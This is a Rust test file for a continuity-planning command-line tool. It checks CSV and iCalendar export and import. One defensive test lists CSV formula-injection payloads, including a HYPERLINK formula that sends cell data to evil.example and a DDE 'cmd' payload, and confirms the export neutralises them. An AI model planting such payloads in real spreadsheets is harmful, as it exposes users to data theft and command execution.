use crate::support::Home;

fn fields_of(h: &Home, kind: &str) -> Vec<serde_json::Value> {
    let v: serde_json::Value = serde_json::from_str(&h.ok(&["--json", "list", kind])).unwrap();
    let mut all: Vec<serde_json::Value> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|r| serde_json::json!({"id": r["id"], "fields": r["fields"]}))
        .collect();
    all.sort_by_key(|r| r["id"].to_string());
    all
}

#[test]
fn csv_export_then_import_round_trips_every_kind_of_the_starter_plan() {
    let a = Home::with_starter();
    a.ok(&[
        "add",
        "contact",
        "name=Åsa Öberg",
        "phones=+46 70 123 45 67; 08-123 456",
        "notes=Line one\nLine \"two\", with comma",
    ]);
    let b = Home::quick("Sam");
    b.ok(&["init", "--name", "Sam"]);
    // Kinds in an order where references point to records already there.
    for kind in [
        "plan",
        "section",
        "contact",
        "role",
        "vendor",
        "dependency",
        "level",
        "objective",
        "checklist",
        "item",
        "template",
        "comms",
        "schedule",
        "risk",
        "control",
    ] {
        let file = a.path(&format!("{kind}.csv"));
        a.ok(&["export", "csv", kind, "--bom", "-o", file.to_str().unwrap()]);
        assert!(std::fs::read(&file).unwrap().starts_with(b"\xEF\xBB\xBF"));
        b.ok(&["import", "csv", kind, file.to_str().unwrap()]);
        assert_eq!(
            fields_of(&a, kind),
            fields_of(&b, kind),
            "{kind} did not round-trip"
        );
    }
}

#[test]
fn a_spreadsheet_with_its_own_headers_imports_by_synonym() {
    let home = Home::with_starter();
    let file = home.path("people.csv");
    std::fs::write(&file, "Full name,Company,Mobile,E-mail,Shoe size\nÅsa Öberg,Acme,+46 70 111 22 33,asa@example.se,38\n").unwrap();
    let out = home.ok(&["import", "csv", "contact", file.to_str().unwrap()]);
    assert!(
        out.contains("1 record(s) created") && out.contains("\"Shoe size\""),
        "{out}"
    );
    let asa = home.json(&["list", "contact", "--where", "org=Acme"]);
    let f = &asa[0]["fields"];
    assert_eq!(
        (
            f["name"].as_str(),
            f["phones"][0].as_str(),
            f["emails"][0].as_str()
        ),
        (
            Some("Åsa Öberg"),
            Some("+46 70 111 22 33"),
            Some("asa@example.se")
        )
    );
    assert_eq!(
        f["notes"], "Shoe size: 38",
        "a column with no field is kept, not dropped"
    );
}

#[test]
fn a_bad_row_names_its_line_and_nothing_is_imported() {
    let home = Home::with_starter();
    let file = home.path("vendors.csv");
    std::fs::write(&file, "Vendor,Criticality\nGood One,high\nBad One,urgent\n").unwrap();
    let before = home.snapshot();
    let err = home.fails(&["import", "csv", "vendor", file.to_str().unwrap()]);
    assert!(
        err.contains("(line 3) criticality: \"urgent\" is not one of"),
        "{err}"
    );
    assert_eq!(before, home.snapshot());
    let err = home.fails(&["import", "csv", "member", file.to_str().unwrap()]);
    assert!(err.contains("managed by the app"), "{err}");
}

#[test]
fn the_schedule_exports_as_icalendar_that_a_second_parser_reads() {
    let home = Home::with_starter();
    let file = home.path("plan.ics");
    home.ok(&[
        "export",
        "ical",
        "--on",
        "2026-11-23",
        "-o",
        file.to_str().unwrap(),
    ]);
    crate::support::require_tool("python3");
    let script = "import sys, icalendar\ncal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())\nfor e in cal.walk('VEVENT'):\n    r = e.get('RRULE')\n    rule = ';'.join(k + '=' + ','.join(str(x) for x in v) for k, v in r.items()) if r else ''\n    print(str(e.get('SUMMARY')) + '|' + e.decoded('DTSTART').isoformat() + '|' + rule)\n";
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "icalendar refused the export: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = String::from_utf8(out.stdout).unwrap();
    // Last done 2026-09-15, quarterly: next on 2026-12-15, every three months.
    assert!(events.contains("Restore a production backup into a scratch environment|2026-12-15|FREQ=MONTHLY;INTERVAL=3"), "{events}");
    // Never done: due on the given day, then yearly.
    assert!(
        events.contains("Tabletop exercise: cloud region outage|2026-11-23|FREQ=YEARLY;INTERVAL=1"),
        "{events}"
    );
    assert!(
        events.contains(
            "Review the continuity plan (Example Company)|2026-11-23|FREQ=MONTHLY;INTERVAL=6"
        ),
        "{events}"
    );
    // Nothing verified yet in the starter plan: one reminder today listing every record to check.
    assert!(
        events.contains("plan record(s) are still true|2026-11-23|"),
        "{events}"
    );
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.lines().all(|l| l.len() <= 76), "folded at 75 octets");
}

/// Issue 24: a cell a spreadsheet would run as a formula is exported behind a `'` (as Python's
/// csv module, a reader we did not write, sees it), a phone number is not, and importing our own
/// export gives the values back without the quote.
#[test]
fn formula_cells_are_exported_behind_a_quote_and_import_back_as_they_were() {
    let attacks = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "@SUM(1)",
        "-2+3",
        "+cmd|' /C calc'!A0",
    ];
    let a = Home::quick("Ann");
    a.ok(&["init", "--name", "Ann"]);
    for attack in attacks {
        a.ok(&[
            "add",
            "contact",
            &format!("name={attack}"),
            &format!("job_title={attack}"),
            "phones=+46 70 123 45 67",
        ]);
    }
    let file = a.path("contacts.csv");
    a.ok(&["export", "csv", "contact", "-o", file.to_str().unwrap()]);

    crate::support::require_tool("python3");
    let script = "import csv, json, sys\nprint(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))))\n";
    let out = crate::support::succeeds(
        std::process::Command::new("python3")
            .args(["-c", script])
            .arg(&file),
        "Python's csv module",
    );
    let rows: Vec<std::collections::BTreeMap<String, String>> =
        serde_json::from_slice(&out).unwrap();
    assert_eq!(rows.len(), attacks.len());
    for attack in attacks {
        let row = rows
            .iter()
            .find(|r| r["name"] == format!("'{attack}"))
            .unwrap_or_else(|| panic!("{attack} neutralised in {rows:?}"));
        assert_eq!(row["job_title"], format!("'{attack}"));
        assert_eq!(row["phones"], "+46 70 123 45 67", "a phone stays readable");
    }

    let b = Home::quick("Sam");
    b.ok(&["init", "--name", "Sam"]);
    b.ok(&["import", "csv", "contact", file.to_str().unwrap()]);
    assert_eq!(fields_of(&a, "contact"), fields_of(&b, "contact"));
    let names: Vec<String> = fields_of(&b, "contact")
        .iter()
        .map(|c| c["fields"]["name"].as_str().unwrap_or("").to_string())
        .collect();
    for attack in attacks {
        assert!(names.iter().any(|n| n == attack), "{attack} in {names:?}");
    }
}
